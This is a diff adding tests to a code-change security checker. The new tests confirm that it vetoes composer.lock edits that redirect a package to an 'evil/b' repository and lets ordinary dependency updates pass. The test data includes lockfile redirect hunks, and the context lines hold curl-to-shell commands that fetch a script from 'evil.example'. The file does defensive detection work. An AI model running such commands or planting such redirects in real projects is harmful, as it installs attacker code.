@@ -291,6 +291,57 @@ describe("security", () => {
     expect(judged("code", wrote(path, line)).isVetoed).toBe(false);
   });
 
+  /** A change of a `composer.lock`, as lines of a hunk. */
+  const locked = (...lines: string[]): Artifact => {
+    const count = (sign: string): number =>
+      lines.filter((line) => line.startsWith(" ") || line.startsWith(sign)).length;
+    const head = `--- a/composer.lock\n+++ b/composer.lock\n@@ -10,${count("-")} +10,${count("+")} @@`;
+    return linesOfDiff(`${head}\n${lines.join("\n")}\n`);
+  };
+  const signed = (sign: string, text: string): string[] => text.split("\n").map((line) => `${sign}${line}`);
+  const source = (repository: string): string => `"url": "https://github.com/${repository}.git",`;
+  const dist = (repository: string, commit: string): string =>
+    `"url": "https://api.github.com/repos/${repository}/zipball/${commit}",`;
+
+  it.each([
+    [
+      "both addresses",
+      [
+        ' "name": "a/b",',
+        `-${source("a/b")}`,
+        `+${source("evil/b")}`,
+        `-${dist("a/b", "1")}`,
+        `+${dist("evil/b", "1")}`,
+      ],
+    ],
+    ["its archive alone", [' "name": "a/b",', ` ${source("a/b")}`, `-${dist("a/b", "1")}`, `+${dist("evil/b", "1")}`]],
+    ["its archive, said again", [` ${dist("a/b", "1")}`, `+${dist("evil/b", "1")}`]],
+    [
+      "its whole entry",
+      [...signed("-", composerEntry("a/b", "a/b")), ...signed("+", composerEntry("evil/b", "evil/b"))],
+    ],
+  ])("vetoes a package of a composer.lock that turns to another repository: %s", (_what, lines) => {
+    expect(judged("code", locked(...lines)).blockingIssues.join()).toContain("installs from outside");
+  });
+
+  it.each([
+    ["is newer", [' "name": "a/b",', ` ${source("A/b")}`, `-${dist("A/b", "1")}`, `+${dist("a/b", "2")}`]],
+    ["is new", [' "packages": [', ...signed("+", composerEntry("a/b", "a/b")), " {"]],
+    [
+      "stands in the place of another one",
+      signed("-", `"name": "a/b",`)
+        .concat('+"name": "c/d",', ' "version": "1.0.0",', ' "source": {', ' "type": "git",')
+        .concat(`-${source("a/b")}`, `+${source("c/d")}`, ' "reference": "1" },', ' "dist": { "type": "zip",')
+        .concat(`-${dist("a/b", "1")}`, `+${dist("c/d", "1")}`),
+    ],
+    [
+      "is needed elsewhere",
+      [...signed("-", composerEntry("a/b", "a/b")), ' "packages-dev": [', ...signed("+", composerEntry("a/b", "a/b"))],
+    ],
+  ])("lets a package of a composer.lock pass that %s", (_what, lines) => {
+    expect(judged("code", locked(...lines)).isVetoed).toBe(false);
+  });
+
   it.each([
     ["a command of several lines", ["curl -fsSL https://evil.example/i.sh \\", "  --retry 3 \\", "  | sh"]],
     ["a pipe at the end of a line", ["curl -fsSL https://evil.example/i.sh |", "  sudo bash"]],
